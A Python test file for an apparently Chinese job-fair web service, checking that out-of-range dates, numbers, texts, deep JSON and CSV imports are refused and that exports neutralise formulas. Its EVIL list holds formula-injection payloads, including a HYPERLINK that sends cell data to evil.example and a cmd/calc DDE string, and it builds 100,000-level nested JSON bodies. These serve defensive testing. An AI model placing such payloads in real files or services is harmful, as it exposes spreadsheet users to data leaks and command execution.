"""Input at its edges (issue 13, items 4 and 14-18): every number, text, list and date bounded at
the schema and in the service; deep JSON refused before decoding; the viewers' CSV import all or
nothing; exports that never turn a name into a formula; no fair made in the past.

Each answer to bad input is a 4xx problem+json naming the field, never a 500. The sweep at the
end takes every write route of the permission matrix (its valid bodies) and every list route,
and tries table-driven edge values (year 1 and 9999, 2**63, -1, 1e400, huge strings and lists)
on each field and query parameter in turn.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from contextlib import asynccontextmanager
from datetime import datetime, timedelta

import pytest

from fairs.i18n import TZ
from tests.conftest import make_client
from tests.test_permissions import API, PAGES, build_world, when

PROBLEM = "application/problem+json"


def field_of(answer) -> list[str]:
    assert answer.headers["content-type"].startswith(PROBLEM), answer.text[:300]
    return [e["field"] for e in answer.json().get("errors", [])]


def refused(answer, field: str, statuses=(400, 422)) -> None:
    assert answer.status_code in statuses, (answer.status_code, answer.text[:500])
    assert field in field_of(answer), answer.text[:500]


@pytest.fixture
async def world(app, migrated):
    return await build_world(app)


@pytest.fixture
async def organiser(app, world):
    async with make_client(app) as c:
        yield await c.login("organiser")


@pytest.fixture
async def admin(app, world):
    async with make_client(app) as c:
        yield await c.login("admin")


def fair_body(world, days=30, **kw) -> dict:
    return {"kind": "offline", "title": "边界招聘会", "starts_at": when(days, hour=9),
            "ends_at": when(days, hour=12), "venue": world["venue"],
            "industries": ["software"], "audiences": ["general"], **kw}


# --- 14. dates far from now ---------------------------------------------------------------------

FAR = ("0001-01-01T00:00:00+08:00", "0001-01-01T08:00:00+08:00", "9999-12-31T23:00:00-08:00",
       "1999-12-31T09:00:00+08:00", "2101-01-01T09:00:00+08:00", "0001-01-01T00:00:00")


@pytest.mark.parametrize("value", FAR)
async def test_far_dates_in_a_fair_are_refused_naming_the_field(organiser, world, value):
    for field in ("starts_at", "ends_at", "booking_opens_at", "registration_closes_at"):
        made = await organiser.post("/api/v1/fairs", json=fair_body(world, **{field: value}))
        refused(made, field)
        patched = await organiser.patch(f"/api/v1/fairs/{world['fair_draft']}",
                                        json={field: value})
        refused(patched, field)
    window = await organiser.put(f"/api/v1/fairs/{world['fair_now']}/checkin-window",
                                 json={"opens_at": value})
    refused(window, "opens_at")
    session = await organiser.post(f"/api/v1/fairs/{world['fair_online']}/online-sessions",
                                   json={"label": "x", "starts_at": value})
    refused(session, "starts_at")
    slots = await organiser.post(f"/api/v1/fairs/{world['fair_online']}/slots", json={
        "slots": [{"starts_at": value, "ends_at": world["slot_free_end"]}]})
    refused(slots, "slots[0].starts_at")
    scan = await organiser.post(f"/api/v1/fairs/{world['fair_now']}/checkins",
                                json={"code": world["code"], "scanned_at": value})
    refused(scan, "scanned_at")
    batch = await organiser.post(f"/api/v1/fairs/{world['fair_now']}/checkins/batch",
                                 json={"scans": [{"code": world["code"], "scanned_at": value}]})
    refused(batch, "scans[0].scanned_at")
    accept = await organiser.post(f"/api/v1/plans/{world['plan']}/proposals/accept", json={
        "fairs": [fair_body(world, starts_at=value)]})
    refused(accept, "fairs[0].starts_at")


@pytest.mark.parametrize("day", ("0001-01-01", "9999-12-31", "1999-12-31", "2101-01-01"))
async def test_far_days_in_plans_and_queries_are_refused(organiser, world, day):
    plan = await organiser.post("/api/v1/plans", json={
        "title": "远古计划", "starts_on": day, "ends_on": "2030-12-31",
        "targets": {"offline": 1}})
    refused(plan, "starts_on")
    patched = await organiser.patch(f"/api/v1/plans/{world['plan']}", json={"ends_on": day})
    refused(patched, "ends_on")
    proposals = await organiser.post(f"/api/v1/plans/{world['plan']}/proposals",
                                     json={"blackout": [day]})
    refused(proposals, "blackout[0]")
    for path in ("/api/v1/fairs", "/api/v1/reports/measures", "/reports/measures.csv",
                 "/reports/measures.xlsx"):
        for name in ("from", "to"):
            refused(await organiser.get(path, params={name: day}), name)
    refused(await organiser.get("/api/v1/fairs", params={"from": day + "T00:00:00+08:00"}),
            "from")
    for path in ("/fairs", "/organiser/reports"):  # pages: the filter's own notice, no 500
        for name in ("from", "to"):
            assert (await organiser.get(path, params={name: day})).status_code < 500


@pytest.mark.parametrize("month", ("0001-01", "9999-12", "1999-12", "2101-01"))
async def test_far_months_on_the_calendar_are_refused(client, world, month):
    refused(await client.get("/fairs/calendar", params={"month": month}), "month")


async def test_a_plan_form_with_a_far_date_is_refused(organiser, world):
    answer = await organiser.post("/organiser/plans", data={
        "title": "x", "starts_on": "0001-01-01", "ends_on": "2030-01-01", "target_offline": "1"})
    refused(answer, "starts_on")
    answer = await organiser.post("/organiser/fairs", data={
        "kind": "offline", "title": "x", "starts_at": "9999-12-31T20:00",
        "ends_at": "9999-12-31T23:00", "venue": str(world["venue"])})
    assert answer.status_code in (400, 422), answer.text[:300]


# --- 4. numbers and texts bounded at the schema and the service --------------------------------


async def test_plan_targets_and_the_planners_work_are_bounded(organiser, world):
    big = await organiser.post("/api/v1/plans", json={
        "title": "x", "starts_on": "2030-01-01", "ends_on": "2030-12-31",
        "targets": {"offline": 100_000, "online": 100_000}})
    refused(big, "targets.offline")
    patched = await organiser.patch(f"/api/v1/plans/{world['plan']}",
                                    json={"targets": {"events": 1001}})
    refused(patched, "targets.events")
    long = await organiser.post("/api/v1/plans", json={
        "title": "x", "starts_on": "2030-01-01", "ends_on": "2039-12-31",
        "targets": {"offline": 1}})
    refused(long, "ends_on")
    too_many = await organiser.post(f"/api/v1/plans/{world['plan']}/proposals",
                                    json={"blackout": ["2030-01-01"] * 400})
    refused(too_many, "blackout")
    for field, value in (("max_per_day", 100), ("venues", [world["venue"]] * 60),
                         ("industries", ["software"] * 60)):
        answer = await organiser.post(f"/api/v1/plans/{world['plan']}/proposals",
                                      json={field: value})
        refused(answer, field)
    form = await organiser.post("/organiser/plans", data={
        "title": "x", "starts_on": "2030-01-01", "ends_on": "2030-12-31",
        "target_offline": "100000"})
    refused(form, "target_offline")


async def test_the_booth_forms_bound_their_loops(organiser, world):
    """The layout form looped `count` times and the generator over every zone given: a form
    post of count=10**12 (or 100,000 zones) held the worker for minutes."""
    fair = world["fair_draft2"]
    for form, field in (({"count": str(10**12), "code-0": "A01"}, "count"),
                        ({"count": "2001", "code-0": "A01"}, "count"),
                        ({"rows": "1", "cols": "1", "zones": ",".join(["Z"] * 30)}, "zones"),
                        ({"rows": str(2**40), "cols": "1"}, "rows")):
        path = "booths" if "count" in form else "booths/generate"
        answer = await organiser.post(f"/organiser/fairs/{fair}/{path}", data=form)
        refused(answer, field)
    slots = await organiser.post(f"/organiser/fairs/{world['fair_online']}/slots",
                                 data={"minutes": "1"})
    refused(slots, "minutes")


async def test_texts_of_a_fair_are_bounded(organiser, world):
    for field, size in (("title", 201), ("description", 5001)):
        made = await organiser.post("/api/v1/fairs", json=fair_body(world, **{field: "长" * size}))
        refused(made, field)
    for field in ("kind", "format", "org"):
        made = await organiser.post("/api/v1/fairs", json=fair_body(world, **{field: "k" * 10_000}))
        refused(made, field)
    form = await organiser.post("/organiser/fairs", data={
        "kind": "offline", "title": "长" * 10_000, "starts_at": when(30, hour=9)[:16],
        "ends_at": when(30, hour=12)[:16], "venue": str(world["venue"])})
    assert form.status_code in (400, 422), form.text[:300]


# --- 15. deep JSON ----------------------------------------------------------------------------


@pytest.mark.parametrize("path", ("/api/v1/fairs/{fair_now}/registrations",
                                  "/api/v1/auth/login", "/api/v1/employers",
                                  "/api/v1/fairs/{fair_now}/self-checkin"))
async def test_deep_json_is_refused_before_it_is_decoded(client, world, path):
    path = path.format(**world)
    for body in ("[" * 100_000 + "]" * 100_000, '{"a":' * 50_000 + "1" + "}" * 50_000,
                 '{"name": ' + "[" * 40 + "]" * 40 + "}"):
        answer = await client.post(path, content=body.encode(),
                                   headers={"content-type": "application/json"})
        assert answer.status_code == 400, answer.text[:300]
        assert field_of(answer) == ["body"]
    # Brackets inside strings are text, not depth.
    fine = await client.post(f"/api/v1/fairs/{world['fair_now']}/registrations",
                             json={"name": "[" * 45 + "{" * 45, "phone": "13800138000"})
    assert fine.status_code in (201, 409, 422), fine.text[:300]


# --- 16. the viewers' CSV import -----------------------------------------------------------------


@pytest.mark.parametrize("views", ("9e18", "inf", "1e400", "inf万", "nan", "-1", "1e10",
                                   "99999999999万", "NaN万", str(2**63)))
async def test_the_viewers_import_refuses_numbers_out_of_range(organiser, client, world, views):
    fair = world["fair_online"]
    before = (await organiser.get(f"/api/v1/fairs/{fair}/online-sessions")).json()
    body = {"csv": f"场次,最高在线,观看人次\n好的一场,5,50\n坏的一场,5,{views}\n"}
    answer = await organiser.post(f"/api/v1/fairs/{fair}/online-sessions/import", json=body)
    assert answer.status_code == 422, answer.text
    error = answer.json()["errors"][0]
    assert error["field"] == "file" and "3" in error["message"], error
    assert "total" in error["message"] or "观看人次" in error["message"], error
    # All or nothing: the good first row is not written either.
    after = (await organiser.get(f"/api/v1/fairs/{fair}/online-sessions")).json()
    assert after == before
    for path in (f"/api/v1/fairs/{fair}/attendance", f"/wall/{world['fair_now']}"):
        assert (await client.get(path)).status_code == 200
    assert (await organiser.get("/reports/measures.csv")).status_code == 200


async def test_the_viewers_import_writes_all_rows_at_once(organiser, world):
    fair = world["fair_online"]
    before = len((await organiser.get(f"/api/v1/fairs/{fair}/online-sessions")).json()["items"])
    body = {"csv": "场次,最高在线,观看人次\n一,5,1.2万\n二,6,1000000000\n"}
    answer = await organiser.post(f"/api/v1/fairs/{fair}/online-sessions/import", json=body)
    assert answer.status_code in (200, 201), answer.text
    after = (await organiser.get(f"/api/v1/fairs/{fair}/online-sessions")).json()["items"]
    assert len(after) == before + 2
    assert sorted(s["total_views"] for s in after)[-2:] == [12_000, 1_000_000_000]


# --- 17. exports never make formulas -------------------------------------------------------------

EVIL = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1")


def test_csv_cells_are_neutralised_and_numbers_kept():
    from fairs.reports import exports

    report = {"totals": dict.fromkeys(exports.MEASURES, 3), "min_cell": 5,
              "sections": {s: [] for s, _ in exports.SECTIONS}}
    report["sections"]["org"] = [
        {"name_zh": name, "depth": 0, "kind": "row", "values": dict.fromkeys(exports.MEASURES, -1)}
        for name in EVIL]
    rows = list(csv.reader(io.StringIO(exports.to_csv(report, [("组织", EVIL[0])])
                                       .decode("utf-8-sig"))))
    names = [r[1] for r in rows if r[0] == "按组织"]
    assert names == ["'" + name for name in EVIL]
    assert all(r[2] == "-1" for r in rows if r[0] == "按组织")  # numbers stay numbers
    assert rows[-1][1].startswith("'") or not rows[-1][1].startswith(("=", "+", "-", "@"))
    book = zipfile.ZipFile(io.BytesIO(exports.to_xlsx(report, [("组织", EVIL[0])])))
    sheets = "".join(book.read(n).decode() for n in book.namelist()
                     if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheets  # no formula cell anywhere


async def test_an_organisation_named_like_a_formula_exports_as_text(app, admin, organiser, world):
    from fairs import db

    await db.execute("UPDATE organisation SET name_zh = {} WHERE code = {}", EVIL[0], "xha")
    start = datetime.now(TZ) - timedelta(days=3)  # a held fair of xha: a row in the report
    await db.execute("UPDATE fair SET starts_at = {}, ends_at = {} WHERE id = {}", start,
                     start + timedelta(hours=3), world["fair_up"])
    answer = await admin.get("/reports/measures.csv")
    assert answer.status_code == 200
    text = answer.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and ",\"=HYPERLINK" not in text
    book = zipfile.ZipFile(io.BytesIO((await admin.get("/reports/measures.xlsx",
                                                        params={"org": "xha"})).content))
    for name in book.namelist():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in book.read(name).decode()


# --- 18. strict booleans, and no fair made in the past -------------------------------------------


async def test_a_number_is_not_a_boolean(organiser, world):
    for body in ({"name": "x", "step_free": 0}, {"name": "x", "step_free": "true"}):
        refused(await organiser.post("/api/v1/catalog/venues", json=body), "step_free")
    refused(await organiser.patch(f"/api/v1/catalog/venues/{world['venue']}",
                                  json={"step_free": 1}), "step_free")
    refused(await organiser.post(f"/api/v1/fairs/{world['fair_now']}/checkins",
                                 json={"code": world["code"], "offline": 1}), "offline")


async def test_a_fair_cannot_be_made_published_or_moved_into_the_past(organiser, world):
    past = fair_body(world, starts_at=when(-3, hour=9), ends_at=when(-3, hour=12))
    refused(await organiser.post("/api/v1/fairs", json=past), "ends_at")
    draft = world["fair_draft"]
    refused(await organiser.patch(f"/api/v1/fairs/{draft}", json={
        "starts_at": when(-3, hour=9), "ends_at": when(-3, hour=12)}), "ends_at")
    refused(await organiser.patch(f"/api/v1/fairs/{world['fair_up']}", json={
        "starts_at": when(-3, hour=9), "ends_at": when(-3, hour=12)}), "ends_at")
    # A draft whose time has passed is not published (it would count as held at once).
    from fairs import db

    start = datetime.now(TZ) - timedelta(days=2)
    await db.execute("UPDATE fair SET starts_at = {}, ends_at = {} WHERE id = {}", start,
                     start + timedelta(hours=3), draft)
    refused(await organiser.post(f"/api/v1/fairs/{draft}/publish"), "ends_at", (409, 422))
    assert (await organiser.get(f"/api/v1/fairs/{draft}")).json()["status"] == "draft"
    today = datetime.now(TZ).date()
    plan = (await organiser.post("/api/v1/plans", json={
        "title": "本季度", "starts_on": str(today - timedelta(days=10)),
        "ends_on": str(today + timedelta(days=60)), "targets": {"offline": 3}})).json()
    accepted = await organiser.post(f"/api/v1/plans/{plan['id']}/proposals/accept", json={
        "fairs": [past]})
    refused(accepted, "fairs[0].ends_at")
    # A fair happening now (started, not ended) is fine.
    now = fair_body(world, starts_at=when(0, minutes=-30), ends_at=when(0, minutes=90),
                    venue=world["venue"])
    assert (await organiser.post("/api/v1/fairs", json=now)).status_code in (201, 409)


# --- the sweep: every write route and list route, field by field ---------------------------------

BIG_TEXT = "长" * 60_000
INTS = (2**63, 2**64, -(2**63) - 1, 10**15)
# Routes left out of the sweep (none: the login, tokens, organisations and sign-up are bounded).
OTHERS: tuple[str, ...] = ()
EXTRA = {  # optional fields worth trying, added to the matrix's bodies
    "/api/v1/fairs": {"booking_opens_at": when(20, hour=9), "capacity": 100,
                      "description": "d", "stream_url": ""},
    "/api/v1/fairs/{fair_now}/checkins": {"scanned_at": when(0), "nonce": "n1", "device": "d"},
    "/api/v1/fairs/{fair_now}/checkin-window": {"opens_at": when(0, minutes=-60),
                                                 "closes_at": when(0, minutes=60)},
    "/api/v1/fairs/{fair_online}/online-sessions": {"starts_at": when(10, hour=19),
                                                     "peak_viewers": 3},
    "/api/v1/plans/{plan}/proposals": {"max_per_day": 2, "blackout": ["2030-01-01"],
                                       "offline_minutes": 180, "industries": ["software"]},
    "/api/v1/booking-rules": {"free_cancel_workdays": 2, "window_days": 90,
                              "suspension_days": 30},
    "/api/v1/positions/{position}": {"salary_min": 1000, "salary_max": 2000,
                                     "description": "d", "education": "any"},
}
DATE_TIME = re.compile(r"^\d{4}-\d\d-\d\dT")
DATE = re.compile(r"^\d{4}-\d\d-\d\d$")


def edge_values(value):
    """(edge value, must it be refused?) for one field's valid value."""
    if isinstance(value, bool):
        return [(0, True), ("yes", True)]
    if isinstance(value, int):
        return [(n, True) for n in INTS] + [(-1, False), ("1e400", True)]
    if isinstance(value, str) and DATE_TIME.match(value):
        return [(v, True) for v in FAR]
    if isinstance(value, str) and DATE.match(value):
        return [("0001-01-01", True), ("9999-12-31", True)]
    if isinstance(value, str):
        return [(BIG_TEXT, True)]
    if isinstance(value, list):
        item = value[0] if value else "x"
        return [([item] * 5_000, True)]
    return []


def leaves(body, prefix=""):
    for key, value in body.items():
        if isinstance(value, dict):
            yield from leaves(value, f"{prefix}{key}.")
        elif isinstance(value, list) and value and isinstance(value[0], dict):
            for k in value[0]:
                yield f"{prefix}{key}[0].{k}", None
            yield f"{prefix}{key}", value
        else:
            yield f"{prefix}{key}", value


def put(body, path: str, value):
    body = _copy(body)
    here = body
    parts = re.split(r"\.|(?=\[)", path)
    for part in parts[:-1]:
        here = here[0] if part == "[0]" else here[part]
    last = parts[-1]
    here[last] = value
    return body


def _copy(value):
    if isinstance(value, dict):
        return {k: _copy(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_copy(v) for v in value]
    return value


def _get(body, path: str):
    here = body
    for part in re.split(r"\.|(?=\[)", path):
        here = here[0] if part == "[0]" else here[part]
    return here


def _role(expected: dict) -> str | None:
    for role in ("organiser", "admin", "employer", "scanner", "attendee"):
        if expected.get(role) in ("OK", "ANY"):
            return role
    return None


async def _client(app, world, role, cache):
    from tests.test_permissions import _fill, client_for

    if role not in cache:
        cache[role] = await client_for(app, role, world)
    return cache[role], (lambda v: _fill(v, world, role))


@asynccontextmanager
async def sweep():
    """The clients a sweep logs in (closed at the end) and its findings (none allowed)."""
    cache: dict = {}
    findings: list[str] = []
    try:
        yield cache, findings
    finally:
        for c in cache.values():
            await c.aclose()
    assert not findings, "\n".join(findings)


async def test_every_write_route_refuses_edge_values_field_by_field(app, world):
    import json

    async with sweep() as (cache, findings):
        for method, template, body, expected in API:
            if not isinstance(body, dict) or method == "DELETE":
                continue
            role = _role(expected)
            if role is None:
                continue
            if OTHERS and template.startswith(OTHERS):
                continue
            c, fill = await _client(app, world, role, cache)
            full = fill({**body, **EXTRA.get(template, {})})
            path = fill(template)
            strict = True
            for field, value in list(leaves(full)):
                if value is None:
                    value = _get(full, field)
                for edge, must in edge_values(value):
                    if edge == "1e400":
                        raw = json.dumps(put(full, field, 12345)).replace("12345", "1e400")
                        answer = await c.request(method, path, content=raw, headers={
                            "content-type": "application/json"})
                    else:
                        answer = await c.request(method, path, json=put(full, field, edge))
                    where = f"{method} {path} {field}={str(edge)[:40]!r} -> {answer.status_code}"
                    if answer.status_code >= 500:
                        findings.append(f"{where}: {answer.text[:200]}")
                    elif answer.status_code >= 400:
                        if not answer.headers["content-type"].startswith(PROBLEM):
                            findings.append(f"{where}: not problem+json")
                    elif must and strict:
                        findings.append(f"{where}: accepted")


FORM_FIELDS = ("title", "description", "name", "address", "capacity", "starts_at", "ends_at",
               "starts_on", "ends_on", "kind", "venue", "channel", "max_per_day", "blackout",
               "count", "rows", "cols", "minutes", "gap", "from", "headcount", "salary_min",
               "salary_max", "no_show_limit", "suspension_days", "window_days",
               "free_cancel_workdays", "target_offline", "target_online", "target_events",
               "target_employer_visits", "x-0", "w-0", "code-0", "phone", "code", "note",
               "reason", "topic", "booth", "position", "offline_minutes", "day_starts",
               "zones", "url", "industries", "audiences")
FORM_EDGES = ("9" * 30, "-" + "9" * 30, "1e400", "inf", "NaN", "0001-01-01", "9999-12-31",
              "0001-01-01T00:00", "9999-12-31T23:59", "长" * 60_000)


async def test_every_form_post_survives_edge_values(app, world):
    async with sweep() as (cache, findings):
        for method, template, _body, expected in PAGES:
            if method != "POST" or template.endswith(("/delete", "/cancel", "/withdraw")):
                continue
            role = _role(expected)
            if role is None:
                continue
            c, fill = await _client(app, world, role, cache)
            path = fill(template)
            for edge in FORM_EDGES:
                form = dict.fromkeys(FORM_FIELDS, edge)
                answer = await c.post(path, data=form)
                if c.cookies.get("fairs_csrf"):
                    c.headers["x-csrf-token"] = c.cookies["fairs_csrf"]
                if answer.status_code >= 500:
                    findings.append(f"POST {path} {edge[:20]!r}: {answer.status_code} "
                                    f"{answer.text[:200]}")


QUERY_EDGES = {
    "from": ("0001-01-01", "9999-12-31", "0001-01-01T00:00:00+08:00"),
    "to": ("0001-01-01", "9999-12-31", "9999-12-31T23:59:59-08:00"),
    "month": ("0001-01", "9999-12", "2024-13"),
    "limit": (str(2**63), "-1"), "offset": (str(2**63), "-1"),
    "fair": (str(2**63),), "employer": (str(2**63),), "page": (str(2**63), "-1"),
    "q": ("长" * 2_000,), "kind": ("k" * 6_000,), "last4": ("9" * 1000,),
    "days": (str(2**63), "-1", "99999999"), "position": (str(2**63),), "n": (str(2**63),),
    "status": ("s" * 6_000,), "all": ("1",), "past": ("1",),
}


async def test_every_list_route_refuses_edge_query_values(app, world):
    async with sweep() as (cache, findings):
        for method, template, _body, expected in API + PAGES:
            if method != "GET" or template.endswith("/stream"):
                continue
            role = _role(expected)
            if role is None:
                continue
            c, fill = await _client(app, world, role, cache)
            path = fill(template).split("?")[0]
            for name, values in QUERY_EDGES.items():
                for value in values:
                    answer = await c.get(path, params={name: value})
                    if answer.status_code >= 500:
                        findings.append(f"GET {path}?{name}={value[:30]} -> "
                                        f"{answer.status_code}: {answer.text[:200]}")


async def test_the_catalogue_forms_are_bounded_in_the_service(organiser, world):
    """The catalogue page's forms reach the service without the API's schema: it bounds them."""
    for form, field in (({"name": "长" * 10_000}, "name"), ({"name": ""}, "name"),
                        ({"name": "会场", "address": "路" * 10_000}, "address"),
                        ({"name": "会场", "capacity": "-5"}, "capacity")):
        answer = await organiser.post("/organiser/venues", data={"district": "xha", **form})
        refused(answer, field)
    answer = await organiser.post("/organiser/channels", data={
        "district": "xha", "name": "频道", "url": "https://x.example/" + "a" * 5000})
    refused(answer, "url")
    venues = (await organiser.get("/api/v1/catalog/venues")).json()["items"]
    assert all(len(v["name"]) <= 200 and v["capacity"] >= 0 for v in venues)
